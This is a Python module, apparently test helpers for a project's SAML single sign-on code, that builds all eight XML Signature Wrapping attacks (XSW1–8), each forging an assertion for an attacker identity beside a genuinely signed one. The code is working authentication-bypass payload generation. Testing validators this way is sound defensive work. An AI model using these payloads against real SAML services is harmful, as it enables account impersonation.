"""Signature wrapping (XSW 1 to 8): a signed answer is kept somewhere, and another person put where a reader looks.

After Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (2012), in the order of SAML Raider.
"""

import copy

from lxml import etree

from accounts.sso.saml.words import NAMES, PROTOCOL, SIGNATURE

EVIL = "00u9-mallory"


def _parts(document):
    response = copy.deepcopy(document)
    return response, response.find("{*}Assertion"), response.find("{*}Signature")


def _unsigned(element):
    clone = copy.deepcopy(element)
    clone.remove(clone.find("{*}Signature"))
    return clone


def _evil(element, new_id="_evil"):
    """Make `element` about somebody else, under another id."""
    for name in element.xpath(".//a:NameID", namespaces=NAMES):
        name.text = EVIL
    element.set("ID", new_id)
    return element


def xsw1(document):
    """The signed response lies within the signature of an evil one."""
    response, _, signature = _parts(document)
    signature.append(_unsigned(response))
    return _evil_root(response)


def xsw2(document):
    """The signed response lies before the signature of an evil one."""
    response, _, signature = _parts(document)
    signature.addprevious(_unsigned(response))
    return _evil_root(response)


def _evil_root(response):
    response.set("ID", "_evil")
    _evil(response.find("{*}Assertion"), "_evil_assertion")
    return response


def xsw3(document):
    """An evil assertion comes before the signed one."""
    response, assertion, _ = _parts(document)
    assertion.addprevious(_evil(_unsigned(assertion)))
    return response


def xsw4(document):
    """The signed assertion lies within an evil one."""
    response, assertion, _ = _parts(document)
    evil = _evil(_unsigned(assertion))
    response.replace(assertion, evil)
    evil.append(assertion)
    return response


def xsw5(document):
    """The signature is in the evil assertion; the signed one follows without it."""
    response, assertion, _ = _parts(document)
    response.append(_unsigned(assertion))
    _evil(assertion)
    return response


def xsw6(document):
    """The signature is in the evil assertion, and the signed one lies within the signature."""
    response, assertion, _ = _parts(document)
    signed = _unsigned(assertion)
    _evil(assertion).find("{*}Signature").append(signed)
    return response


def xsw7(document):
    """An evil assertion lies within extensions, which may hold anything."""
    response, assertion, _ = _parts(document)
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(_evil(_unsigned(assertion)))
    response.find("{*}Issuer").addnext(extensions)
    return response


def xsw8(document):
    """The signed assertion lies within an object of the signature of the evil one."""
    response, assertion, _ = _parts(document)
    signed = _unsigned(assertion)
    holder = etree.SubElement(_evil(assertion).find("{*}Signature"), f"{{{SIGNATURE}}}Object")
    holder.append(signed)
    return response


SIGNED = {"response": (xsw1, xsw2), "assertion": (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)}  # by what is signed
SEEN_BY_XMLSEC = (xsw1, xsw6, xsw8)  # it looks at what lies within a signature; other libraries do not
